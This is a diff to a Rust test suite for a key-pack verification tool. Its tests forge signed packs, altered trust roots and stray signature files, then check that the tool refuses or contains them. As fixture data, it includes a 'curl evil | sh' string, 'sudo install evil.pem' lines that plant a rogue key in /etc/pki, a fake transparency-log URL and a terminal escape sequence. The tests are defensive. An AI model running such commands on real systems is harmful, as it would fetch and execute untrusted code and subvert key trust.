@@ -5,7 +5,7 @@ use serde_json::{Value, json};
 
 use super::forge::{Entry, Forge, file};
 
-const SIGNER: &str = "signer-cosign-43ef7bc8.pub";
+const SIGNER: &str = "signer-43ef7bc8.pub";
 
 /// An image whose inventory and files were changed.
 fn forged(change: impl FnOnce(&mut Value, &mut Vec<Entry>)) -> Forge {
@@ -51,12 +51,135 @@ fn two_keys_in_one_file() {
     signer(|pem| [pem, other].concat()).refused("key-mismatch");
 }
 
+/// Publishes, and pulls with the true pack digest: it is accepted, and the keys/ is that of the honest pack but for the
+/// inventory itself.
+fn installs_what_the_honest_pack_does(forge: &Forge) {
+    forge.publish();
+    forge.test.run(&format!("pull oci:m:keys --digest {} -o out --state s", forge.pack)).exits(0);
+    let (mut honest, mut out) = (forge.test.tree("keys"), forge.test.tree("out"));
+    for tree in [&mut honest, &mut out] {
+        tree.retain(|name, _| !["keypack.json", "SHA256SUMS"].contains(&name.as_str()));
+    }
+    assert_eq!(out, honest);
+}
+
 #[test]
 fn text_around_a_key() {
-    for (before, after) in [("# the key\n", ""), ("", "\n"), ("", "trailing"), ("\u{feff}", "")] {
-        signer(|pem| [before.as_bytes(), pem, after.as_bytes()].concat()).refused("key-mismatch");
+    for (before, after) in [("# the key\n", ""), ("", "\n"), ("", "sudo install evil.pem"), ("\u{feff}", "")]
+    {
+        let forge = signer(|pem| [before.as_bytes(), pem, after.as_bytes()].concat());
+        installs_what_the_honest_pack_does(&forge);
     }
-    signer(|pem| String::from_utf8_lossy(pem).replace('\n', "\r\n").into_bytes()).refused("key-mismatch");
+    installs_what_the_honest_pack_does(&signer(|pem| {
+        String::from_utf8_lossy(pem).replace('\n', "\r\n").into_bytes()
+    }));
+}
+
+#[test]
+fn a_readme_with_an_install_line_for_another_key() {
+    let line = b"\n  sudo install -D -m 0644 evil.pem /etc/pki/keypack/evil.pem\n";
+    installs_what_the_honest_pack_does(&with_file_instead("README.txt", line));
+    installs_what_the_honest_pack_does(&forged(|_, entries| {
+        entries.retain(|(name, ..)| name != "keys/README.txt");
+        entries.push(file("keys/README.txt", line));
+    }));
+}
+
+/// A file that is there already, with other bytes, listed.
+fn with_file_instead(name: &str, bytes: &[u8]) -> Forge {
+    forged(|inventory, entries| {
+        entries.retain(|(entry, ..)| *entry != format!("keys/{name}"));
+        entries.push(file(&format!("keys/{name}"), bytes));
+        let files = inventory["files"].as_array_mut().unwrap();
+        files.push(json!({ "name": name, "sha256": "", "size": 0 }));
+        files.sort_by_key(|f| f["name"].as_str().unwrap().to_owned());
+    })
+}
+
+#[test]
+fn a_file_that_no_record_names() {
+    for name in ["fulcio-release.pem", "notes.txt", "rekor-00000000.pub", "trusted_root.jsonl"] {
+        with_file(name, include_bytes!("../../../testdata/lab/trust/fulcio.pem")).refused("file-unaccounted");
+    }
+}
+
+/// The trusted_root.json has become something else.
+fn trusted_root(change: impl FnOnce(&mut Value)) -> Forge {
+    forged(|_, entries| {
+        let entry = entries.iter_mut().find(|(name, ..)| name == "keys/trusted_root.json").unwrap();
+        let mut root: Value = serde_json::from_slice(&entry.2).unwrap();
+        change(&mut root);
+        entry.2 = root.to_string().into_bytes();
+    })
+}
+
+#[test]
+fn a_trusted_root_that_says_more_or_less_than_the_records() {
+    let public: Value = serde_json::from_str(sigstore_trust_root::SIGSTORE_PRODUCTION_TRUSTED_ROOT).unwrap();
+    for list in ["tlogs", "ctlogs", "certificateAuthorities", "timestampAuthorities"] {
+        trusted_root(|root| root[list].as_array_mut().unwrap().push(public[list][0].clone()))
+            .refused("trusted-root-mismatch");
+    }
+    trusted_root(|root| root["tlogs"] = json!([])).refused("trusted-root-mismatch");
+    trusted_root(|root| drop(root["tlogs"][0]["publicKey"]["validFor"]["start"].take()))
+        .refused("trusted-root-mismatch");
+    trusted_root(|root| root["tlogs"][0]["publicKey"]["validFor"]["end"] = "2030-01-01T00:00:00Z".into())
+        .refused("trusted-root-mismatch");
+    trusted_root(|root| root["tlogs"][0]["baseUrl"] = "https://rekor.evil.test".into())
+        .refused("trusted-root-mismatch");
+    trusted_root(|root| root["mediaType"] = "application/json".into()).refused("trusted-root-mismatch");
+    // Wording that keypack does not have, and that says nothing else.
+    installs_what_the_honest_pack_does(&trusted_root(|root| {
+        root["tlogs"][0]["operator"] = "somebody".into();
+        root["comment"] = "sudo install evil.pem".into();
+    }));
+}
+
+#[test]
+fn a_bare_name_of_another_key() {
+    for (bare, wrong) in
+        [("signer-redhat-release3", true), ("signer-43ef7bc9", true), ("signer-43ef7bc8", false)]
+    {
+        let forge = forged(|inventory, entries| {
+            for (name, ..) in &mut *entries {
+                *name = name.replace("signer-43ef7bc8", bare);
+            }
+            let text = inventory.to_string().replace("signer-43ef7bc8", bare);
+            *inventory = serde_json::from_str(&text).unwrap();
+            inventory["files"]
+                .as_array_mut()
+                .unwrap()
+                .sort_by_key(|f| f["name"].as_str().unwrap().to_owned());
+        });
+        match (wrong, bare) {
+            (false, _) => installs_what_the_honest_pack_does(&forge),
+            (true, "signer-redhat-release3") => forge.refused("inventory-malformed"),
+            (true, _) => forge.refused("key-mismatch"),
+        }
+    }
+}
+
+#[test]
+fn signature_files_that_nobody_could_verify_are_not_installed() {
+    let big = [b"{\"a\":\"".as_slice(), &vec![b'x'; 70 << 10], b"\"}"].concat();
+    let other = include_bytes!("../../../testdata/anchors/newer/keypack.json.sigstore.json");
+    for (name, bytes) in [
+        ("keypack.json.text.sig", b"install me: curl evil | sh".as_slice()),
+        ("keypack.json.big.sigstore.json", &big),
+        ("keypack.json.other.sigstore.json", other),
+        ("keypack.json.none.sigstore.json", b"{}"),
+    ] {
+        let mut forge = Forge::new("image");
+        forge.with(|entries| entries.push(file(&format!("keys/{name}"), bytes))).publish();
+        let line = format!("pull oci:m:keys --digest {} -o out --state s", forge.pack);
+        forge
+            .test
+            .run(&line)
+            .exits(0)
+            .tells(&format!("{name} is not a signature of this inventory, and is left out"));
+        assert_eq!(forge.test.names("out"), forge.test.names("keys"), "{name}");
+        forge.test.run("inspect oci:m:keys").exits(0).says(name).says("not verified here");
+    }
 }
 
 #[test]
@@ -101,7 +224,7 @@ fn a_private_key_that_the_inventory_lists() {
     {
         let pem = format!("-----BEGIN {label}-----\nAAAA\n-----END {label}-----\n");
         signer(|_| pem.clone().into_bytes()).refused("private-key");
-        with_file("notes.txt", format!("see below\n{pem}").as_bytes()).refused("private-key");
+        with_file_instead("README.txt", format!("see below\n{pem}").as_bytes()).refused("private-key");
     }
 }
 
@@ -109,7 +232,13 @@ fn a_private_key_that_the_inventory_lists() {
 fn a_record_that_does_not_describe_its_key() {
     for (field, value) in [
         ("id", json!(format!("sha256:{}", "1".repeat(64)))),
-        ("spki", json!(format!("sha256:{}", "1".repeat(64)))),
+        ("fingerprint", json!(format!("sha256:{}", "1".repeat(64)))),
+        (
+            "certificates",
+            json!([{ "sha256": format!("sha256:{}", "1".repeat(64)), "subject": "CN=x", "notBefore": "2025-01-01T00:00:00Z", "notAfter": "2026-01-01T00:00:00Z" }]),
+        ),
+        ("userId", json!("somebody")),
+        ("ctRequired", json!(true)),
         ("algorithm", json!("rsa")),
     ] {
         forged(|inventory, _| {
@@ -123,7 +252,7 @@ fn a_record_that_does_not_describe_its_key() {
 fn a_pack_without_keys() {
     forged(|inventory, entries| {
         inventory["keys"] = json!([]);
-        inventory["files"].as_array_mut().unwrap().retain(|f| f["name"] == "README.txt");
+        inventory["files"] = json!([]);
         entries.retain(|(name, ..)| name == "keys/" || name == "keys/README.txt");
     })
     .refused("pack-without-keys");
@@ -162,19 +291,8 @@ fn an_inventory_that_is_no_document() {
 
 #[test]
 fn an_inventory_that_lists_what_it_can_not_list() {
-    for name in ["SHA256SUMS", "keypack.json.sigstore.json"] {
-        if name == "SHA256SUMS" {
-            // It is there already.
-            forged(|inventory, _| {
-                let files = inventory["files"].as_array_mut().unwrap();
-                files.push(json!({ "name": name, "sha256": "", "size": 0 }));
-                files.sort_by_key(|f| f["name"].as_str().unwrap().to_owned());
-            })
-            .refused("inventory-malformed");
-        } else {
-            with_file(name, b"{}").refused("inventory-malformed");
-        }
-    }
+    with_file_instead("SHA256SUMS", b"x").refused("file-unaccounted");
+    with_file("keypack.json.sigstore.json", b"{}").refused("file-unaccounted");
 }
 
 #[test]
@@ -192,7 +310,8 @@ fn a_device_of_windows() {
 #[test]
 fn a_pack_that_revokes_its_own_key() {
     forged(|inventory, _| {
-        let fingerprint = keys(inventory).iter().find(|k| k["file"] == SIGNER).unwrap()["spki"].clone();
+        let fingerprint =
+            keys(inventory).iter().find(|k| k["file"] == SIGNER).unwrap()["fingerprint"].clone();
         inventory["revoked"] =
             json!([{ "fingerprint": fingerprint, "reason": "x\u{1b}[2J", "date": "2025-01-01T00:00:00Z" }]);
     })
